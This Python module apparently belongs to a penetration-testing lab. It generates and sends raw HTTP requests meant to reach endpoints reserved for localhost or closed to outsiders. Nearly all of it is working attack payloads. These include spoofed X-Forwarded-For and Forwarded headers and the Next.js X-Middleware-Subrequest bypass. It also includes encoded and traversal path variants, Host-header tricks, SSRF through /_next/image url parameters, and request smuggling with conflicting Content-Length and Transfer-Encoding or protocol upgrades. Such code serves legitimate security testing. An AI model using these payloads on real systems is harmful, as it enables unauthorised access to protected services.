"""What a remote client sends to look local, or to reach what is closed: byte for byte, as no client would."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from dataclasses import dataclass

from lab.hosts import Host

# Runs on the attacker. An answer ends where the other side closes, or says nothing for a while.
_SEND = r"""
import base64, json, socket, sys
from concurrent.futures import ThreadPoolExecutor

def send(request):
    address, port, raw = request
    answer = b""
    try:
        with socket.create_connection((address, port), 10) as it:
            it.settimeout(4)
            it.sendall(base64.b64decode(raw))
            while len(answer) < 65536:
                more = it.recv(65536)
                if not more:
                    break
                answer += more
    except OSError as error:
        answer = answer or b"no answer: " + type(error).__name__.encode()
    return base64.b64encode(answer).decode()

with ThreadPoolExecutor(8) as pool:
    json.dump(list(pool.map(send, json.load(sys.stdin))), sys.stdout)
"""
# What a visitor may claim of where they come from.
CLAIMS = {
    "X-Forwarded-For": "X-Forwarded-For: 127.0.0.1",
    "as IPv6": "X-Forwarded-For: ::1",
    "by name": "X-Forwarded-For: localhost",
    "a list": "X-Forwarded-For: 127.0.0.1, 127.0.0.1",
    "several": "X-Forwarded-For: 192.0.2.1\r\nX-Forwarded-For: 127.0.0.1\r\nx-forwarded-for: 127.0.0.1",
    "underscores": "X_Forwarded_For: 127.0.0.1",
    "a space before the colon": "X-Forwarded-For : 127.0.0.1",
    "folded": "X-Nothing: 1\r\n X-Forwarded-For: 127.0.0.1",
    "empty": "X-Forwarded-For:",
    "dropped on the way": "Connection: close, X-Forwarded-For, X-Real-IP",
    "Forwarded": "Forwarded: for=127.0.0.1;host=localhost;proto=http",
    "X-Real-IP": "X-Real-IP: 127.0.0.1",
    "True-Client-IP": "True-Client-IP: 127.0.0.1\r\nX-Client-IP: 127.0.0.1",
    "X-Forwarded-Host": "X-Forwarded-Host: localhost:8000\r\nX-Forwarded-Port: 8000",
    "Next's own": "X-Middleware-Subrequest: middleware:middleware\r\nx-middleware-rewrite: /api",
    "PROXY": "X-Original-Forwarded-For: 127.0.0.1\r\nX-Cluster-Client-IP: 127.0.0.1",
}


@dataclass(frozen=True)
class Attack:
    """One request. `plain` ones name what they want, so that it is refused in so many words."""

    name: str
    raw: bytes
    plain: bool = False


@dataclass(frozen=True)
class Wanted:
    """What the attacker wants: an endpoint that is for the host itself, or for nobody."""

    method: str
    path: str
    body: object = None


def on(host: str, wanted: Wanted) -> Iterator[Attack]:
    """Every way in which `wanted` is asked for, of the host at this address."""
    what = f"{wanted.method} {wanted.path}"
    yield Attack(what, _request(host, wanted), plain=True)
    for name, claim in CLAIMS.items():
        yield Attack(f"{what}, {name}", _request(host, wanted, more=claim), plain=True)
    for path in _spellings(wanted.path):
        yield Attack(f"{wanted.method} {path}", _request(host, wanted, path=path))
    for target in _targets(host, wanted.path):
        yield Attack(f"{wanted.method} {target}", _request(host, wanted, path=target))
    for name in (
        "localhost",
        "127.0.0.1:8000",
        "[::1]",
        f"{host}.",
        f"{host}:3000",
        "localhost@evil.example",
    ):
        yield Attack(f"{what}, Host {name}", _request(name, wanted))
    for name, raw in _odd(host, wanted):
        yield Attack(f"{what}, {name}", raw)


def in_pictures(host: str, path: str) -> Iterator[Attack]:
    """The UI's server fetches a picture by itself, from itself: and so from this host."""
    local = ("/logo.png", "/favicon.ico")
    urls = [path, f"/{path}", path.replace("/", "%2f"), path.replace("api", "%61pi"), f"/x/..{path}"]
    urls += [f"/.{path}", f"/%2e{path}", path.replace("/", "%5c", 1), f"http://127.0.0.1:8000{path}"]
    urls += [f"//127.0.0.1:8000{path}", f"/_next/data/x{path}.json", path.upper(), f"/;{path}"]
    queries = [f"url={it}" for it in urls]
    # The one reads the first `url` in whatever case, the other the one in lower case.
    queries += [
        f"{name}={it}&url={path}" for it in local for name in ("URL", "Url", "u%72l", "url%20", "url")
    ]
    queries += [f"url={it}&{name}={path}" for it in local for name in ("url", "u%72l", "url[]")]
    queries += [f"x=1;url={local[0]}&url={path}", f"&&url={path}", f"a?url={local[0]}&url={path}"]
    for place in (
        "/_next/image",
        "/_next/image/",
        "/_NEXT/image",
        "/_next//image",
        "/_next/%69mage",
        "/x/../_next/image",
    ):
        for query in queries:
            yield Attack(
                f"GET {place}?{query}", _request(host, Wanted("GET", ""), path=f"{place}?{query}&w=640&q=75")
            )


def sent(attacker: Host, address: str, attacks: list[Attack], port: int = 80) -> list[str]:
    """The answers, in the order of the attacks."""
    request = [(address, port, base64.b64encode(it.raw).decode()) for it in attacks]
    printed = attacker.run(["python3", "-c", _SEND], input=json.dumps(request)).stdout
    return [base64.b64decode(it).decode("utf-8", "replace") for it in json.loads(printed)]


def status(answer: str) -> int:
    """The status of an HTTP answer; 0 where there is none."""
    words = answer.split(maxsplit=2)
    return int(words[1]) if len(words) > 1 and words[0].startswith("HTTP/") else 0


def _request(host: str, wanted: Wanted, *, path: str = "", more: str = "") -> bytes:
    body = "" if wanted.body is None else json.dumps(wanted.body)
    lines = [f"{wanted.method} {path or wanted.path} HTTP/1.1", f"Host: {host}"]
    lines += ["Connection: close"] if "Connection" not in more else []
    lines += [more] if more else []
    lines += ["Content-Type: application/json", f"Content-Length: {len(body)}"] if body else []
    lines += ["Content-Length: 0"] if wanted.method == "POST" and not body else []
    return ("\r\n".join([*lines, "", ""]) + body).encode("latin-1")


def _spellings(path: str) -> Iterator[str]:
    """The path as some reader of paths may take it for the same."""
    rest = path.removeprefix("/api")
    yield from (
        f"/{path}",
        f"//{path}",
        f"/api/{rest}",
        f"/./api{rest}",
        f"/.//api{rest}",
        f"{path}/",
        f"{path}//",
    )
    yield from (f"/%61pi{rest}", f"/%2561pi{rest}", f"/%41PI{rest}", f"/api%2f{rest[1:]}", f"/%2fapi{rest}")
    yield from (path.replace("/", "%2f"), path.replace("/", "%2F").replace("%2F", "/", 1), f"%2f{path[1:]}")
    yield from (path.upper(), path.title(), f"/API{rest}", f"/x/../api{rest}", f"/api/../api{rest}")
    yield from (f"/x/%2e%2e/api{rest}", f"/x/..%2fapi{rest}", f"/%2e/api{rest}", f"/_next/../api{rest}")
    yield from (f"/_next/static/../../api{rest}", f"/_next/data/../..{path}", f"/_next/data/x{path}.json")
    yield from (f"/_next/data/x/../../..{path}", f"/_next{path}", f"/ws/..{path}", f"/healthz/..{path}")
    yield from (
        f"/api;x{rest}",
        f"{path};x",
        f"/;/api{rest}",
        f"/..;/api{rest}",
        f"/api{rest}?x=/",
        f"{path}#x",
    )
    yield from (f"\\api{rest}", f"/\\api{rest}", f"/%5capi{rest}", path.replace("/", "\\"), f"/x\\..{path}")
    yield from (f"{path}%20", f"{path}%00", f"{path}%0d%0a", f"{path}%09", f"{path}.json", f"{path}.rsc")
    yield from (f"/%ef%bc%8fapi{rest}", f"/%c0%afapi{rest}", f"/en/api{rest}", f"/?x=..{path}", f"/ws{rest}")


def _targets(host: str, path: str) -> Iterator[str]:
    """The target in absolute form, with names that are this host's or were never given to it."""
    for name in (host, "localhost", "127.0.0.1:8000", "127.0.0.1:3000", "evil.example.org"):
        yield f"http://{name}{path}"
        yield f"http://{name}//%61pi{path.removeprefix('/api')}"


def _odd(host: str, wanted: Wanted) -> Iterator[tuple[str, bytes]]:
    """Requests that are none by the book."""
    body = "" if wanted.body is None else json.dumps(wanted.body)
    length = f"Content-Length: {len(body)}\r\nContent-Type: application/json\r\n"
    line = f"{wanted.method} {wanted.path}"
    yield "HTTP/1.0 without a Host", f"{line} HTTP/1.0\r\n{length}\r\n{body}".encode()
    yield "HTTP/1.1 without a Host", f"{line} HTTP/1.1\r\nConnection: close\r\n{length}\r\n{body}".encode()
    yield "HTTP/0.9", f"{line}\r\n".encode()
    for two in (
        f"{host}\r\nHost: localhost",
        f"localhost\r\nHost: {host}",
        f"{host}, localhost",
        f" {host}\thost",
    ):
        yield (
            f"Host {two!r}",
            f"{line} HTTP/1.1\r\nHost: {two}\r\nConnection: close\r\n{length}\r\n{body}".encode(),
        )
    plain = f"{line} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{length}"
    for header in (
        "X-Original-URL",
        "X-Rewrite-URL",
        "X-Forwarded-Prefix",
        "x-matched-path",
        "x-invoke-path",
    ):
        yield header, _request(host, Wanted("GET", "/"), more=f"{header}: {wanted.path}")
    method = f"X-HTTP-Method-Override: {wanted.method}\r\nX-Method-Override: {wanted.method}\r\n"
    yield "another method", plain.replace(wanted.method, "GET", 1).encode() + f"{method}\r\n{body}".encode()
    yield (
        "a method in lower case",
        f"{plain.replace(wanted.method, wanted.method.lower(), 1)}\r\n{body}".encode(),
    )
    # A request within another: behind what ends the first one for one reader and not for the other.
    inner = f"{line} HTTP/1.1\r\nHost: localhost\r\n{length}\r\n{body}"
    outer = f"POST /api/v1/tasks HTTP/1.1\r\nHost: {host}\r\n"
    both = f"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{inner}"
    yield "both lengths", f"{outer}{both}".encode()
    yield "an odd encoding", f"{outer}{both.replace('chunked', 'xchunked')}".encode()
    yield (
        "a chunk with an odd length",
        f"{outer}Transfer-Encoding: chunked\r\n\r\n0x0;a\n\r\n\r\n{inner}".encode(),
    )
    upgrade = "Connection: Upgrade\r\nUpgrade: {}\r\nSec-WebSocket-Version: 7\r\n\r\n"
    for kind in ("websocket", "h2c"):
        for path in ("/ws/events", "/api/v1/system/status"):
            start = f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{upgrade.format(kind)}"
            yield f"behind an upgrade to {kind} of {path}", f"{start}{inner}".encode()
